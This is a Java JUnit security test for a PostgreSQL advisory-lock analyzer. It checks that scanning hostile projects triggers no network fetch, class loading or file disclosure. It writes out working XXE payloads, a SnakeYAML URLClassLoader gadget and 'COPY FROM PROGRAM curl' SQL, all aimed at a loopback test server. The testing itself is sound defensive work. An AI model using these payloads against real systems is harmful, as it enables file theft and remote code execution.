package io.github.pgadvisorylint.core.security;

import static org.assertj.core.api.Assertions.assertThat;

import com.sun.net.httpserver.HttpServer;
import io.github.pgadvisorylint.core.analysis.AnalysisResult;
import io.github.pgadvisorylint.core.analysis.Analyzer;
import io.github.pgadvisorylint.core.facts.FileFacts;
import io.github.pgadvisorylint.core.model.LockSite;
import io.github.pgadvisorylint.core.model.PoolingEvidence;
import io.github.pgadvisorylint.core.mybatis.MyBatisMapperFrontEnd;
import io.github.pgadvisorylint.core.source.SourceFile;
import io.github.pgadvisorylint.core.sql.SqlAnalyzer;
import java.io.StringReader;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.concurrent.CopyOnWriteArrayList;
import javax.xml.stream.XMLInputFactory;
import javax.xml.stream.XMLStreamConstants;
import javax.xml.stream.XMLStreamException;
import javax.xml.stream.XMLStreamReader;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Issue 10, item 2: the analyzer is never a way in. Java 17 has no SecurityManager, and a
 * {@code URLStreamHandlerFactory} is JVM-wide, settable once and consulted once per protocol (so it
 * cannot count fetches in a shared test JVM); the checks are behavioural instead:
 * <ul>
 *   <li>fetching: every URL in the payloads points at a local HTTP server that records each request;
 *       after the scan it has seen none;</li>
 *   <li>reading local files through XML entities (MyBatis mapper files, the one XML the analyzer
 *       parses, with {@code MyBatisMapperFrontEnd}'s StAX settings): the entity points at a file holding
 *       a secret, pooling evidence or a lock call; none shows up;</li>
 *   <li>class loading and execution: the scanned code names {@link Trap} through
 *       {@code Class.forName}, {@code META-INF/services} and a YAML global tag; its static
 *       initialiser, which would set a system property, never runs.</li>
 * </ul>
 * Each payload is shown to be live: a default, unhardened StAX factory does expand it.
 */
class HostileInputTest {

    @TempDir
    Path root;

    @TempDir
    Path outside;

    private HttpServer server;
    private final List<String> requests = new CopyOnWriteArrayList<>();
    private String base;
    private Path secret;

    @BeforeEach
    void start() throws Exception {
        server = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
        server.createContext("/", exchange -> {
            requests.add(exchange.getRequestURI().toString());
            String path = exchange.getRequestURI().getPath();
            byte[] body = (path.endsWith(".dtd")
                            ? "<!ENTITY leak \"pool_mode = transaction\">"
                            : "pool_mode = transaction")
                    .getBytes(StandardCharsets.UTF_8);
            exchange.sendResponseHeaders(200, body.length);
            exchange.getResponseBody().write(body);
            exchange.close();
        });
        server.start();
        base = "http://127.0.0.1:" + server.getAddress().getPort();
        secret = outside.resolve("secret.txt");
        Files.writeString(secret, "TOP-SECRET pool_mode = transaction jdbc:postgresql://pgbouncer:6432/app");
    }

    @AfterEach
    void stop() {
        server.stop(0);
    }

    private String xxe() {
        return "<?xml version=\"1.0\"?>\n"
                + "<!DOCTYPE mapper SYSTEM \"" + base + "/mapper.dtd\" [\n"
                + "  <!ENTITY file SYSTEM \"" + secret.toUri() + "\">\n"
                + "  <!ENTITY web SYSTEM \"" + base + "/entity\">\n"
                + "  <!ENTITY % remote SYSTEM \"" + base + "/parameter.dtd\"> %remote;\n"
                + "]>\n"
                + "<mapper namespace=\"x\"><select id=\"a\">SELECT pg_advisory_lock(1) &file; &web;</select></mapper>\n";
    }

    /** @return all text the reader reports, entity references by name */
    private static String readAll(XMLStreamReader r) throws XMLStreamException {
        StringBuilder text = new StringBuilder();
        try {
            while (r.hasNext()) {
                int event = r.next();
                if (event == XMLStreamConstants.CHARACTERS || event == XMLStreamConstants.CDATA) {
                    text.append(r.getText());
                } else if (event == XMLStreamConstants.ENTITY_REFERENCE) {
                    text.append("&").append(r.getLocalName()).append(";");
                }
            }
        } finally {
            r.close();
        }
        return text.toString();
    }

    @Test
    void theXxePayloadIsLiveForAnUnhardenedParser() throws Exception {
        XMLInputFactory unsafe = XMLInputFactory.newFactory();
        unsafe.setProperty(XMLInputFactory.SUPPORT_DTD, true);
        unsafe.setProperty(XMLInputFactory.IS_SUPPORTING_EXTERNAL_ENTITIES, true);
        String text = readAll(unsafe.createXMLStreamReader(new StringReader(xxe())));
        assertThat(text).contains("TOP-SECRET");
        assertThat(requests).isNotEmpty();
    }

    private AnalysisResult analyze() {
        return Analyzer.builder().threads(2).build().analyze(root, List.of(root));
    }

    @Test
    void theMapperFrontEndExpandsNoEntityAndFetchesNothing() throws Exception {
        Files.writeString(secret, "pg_advisory_lock(4242)");
        Files.writeString(root.resolve("EvilMapper.xml"), xxe().replace("x\">", "com.acme.Evil\">"));
        SourceFile file = new SourceFile("EvilMapper.xml", Files.readString(root.resolve("EvilMapper.xml")));
        assertThat(MyBatisMapperFrontEnd.mapperNamespace(file)).contains("com.acme.Evil");
        FileFacts facts = new MyBatisMapperFrontEnd(new SqlAnalyzer()).analyze(file, null);
        assertThat(facts.sites()).extracting(LockSite::display).containsExactly("pg_advisory_lock(1)");
        AnalysisResult r = analyze();
        assertThat(r.model().sites()).extracting(LockSite::display).containsExactly("pg_advisory_lock(1)");
        assertThat(requests).isEmpty();
    }

    @Test
    void anOrdinaryMapperWithARemoteDoctypeIsReadWithoutFetchingIt() throws Exception {
        Files.writeString(
                root.resolve("JobMapper.xml"),
                "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n"
                        + "<!DOCTYPE mapper PUBLIC \"-//mybatis.org//DTD Mapper 3.0//EN\" \"" + base
                        + "/mybatis-3-mapper.dtd\">\n"
                        + "<mapper namespace=\"a.JobMapper\"><select id=\"lock\">SELECT pg_advisory_xact_lock(77) WHERE 1 &lt; 2</select></mapper>\n");
        AnalysisResult r = analyze();
        assertThat(r.model().sites()).extracting(LockSite::display).containsExactly("pg_advisory_xact_lock(77)");
        assertThat(requests).isEmpty();
    }

    @Test
    void aScannedTreeOfPayloadsFetchesLoadsAndExecutesNothing() throws Exception {
        String trap = Trap.class.getName();
        Files.createDirectories(root.resolve("src/main/java/evil"));
        Files.createDirectories(root.resolve("src/main/resources/META-INF/services"));
        Files.writeString(
                root.resolve("src/main/java/evil/Loader.java"),
                "package evil;\n"
                        + "class Loader {\n"
                        + "  static { try { Class.forName(\"" + trap + "\"); new java.net.URL(\"" + base
                        + "/java\").openStream(); }"
                        + " catch (Exception e) { } }\n"
                        + "  void f(java.sql.Connection c) throws Exception {\n"
                        + "    java.util.ServiceLoader.load(java.sql.Driver.class).iterator().next();\n"
                        + "    c.createStatement().execute(\"SELECT pg_advisory_lock(1); COPY t FROM PROGRAM 'curl "
                        + base + "/sql'\");\n"
                        + "  }\n}\n");
        Files.writeString(root.resolve("src/main/resources/META-INF/services/java.sql.Driver"), trap + "\n");
        Files.writeString(root.resolve("src/main/resources/mapper.xml"), xxe());
        Files.writeString(
                root.resolve("src/main/resources/application.yml"),
                "gadget: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"" + base
                        + "/yaml\"]]]]\n"
                        + "trap: !!" + trap + " {}\n"
                        + "spring:\n  datasource:\n    url: jdbc:postgresql://db:5432/app\n");
        Files.writeString(
                root.resolve("src/main/resources/V1__copy.sql"),
                "COPY t FROM PROGRAM 'curl " + base + "/program';\nSELECT pg_advisory_xact_lock(2);\n");

        AnalysisResult r = analyze();

        assertThat(requests).as("HTTP requests made during the scan").isEmpty();
        assertThat(System.getProperty(Trap.LOADED_PROPERTY))
                .as("Trap initialised")
                .isNull();
        assertThat(r.model().sites()).hasSizeGreaterThanOrEqualTo(2);
        // nothing from the file behind the XML entity became evidence
        assertThat(r.model().poolingEvidence())
                .extracting(PoolingEvidence::description)
                .noneMatch(d -> d.contains("pgbouncer") || d.contains("transaction"));
        assertThat(r.notifications()).noneMatch(n -> n.message().contains("TOP-SECRET"));
    }
}
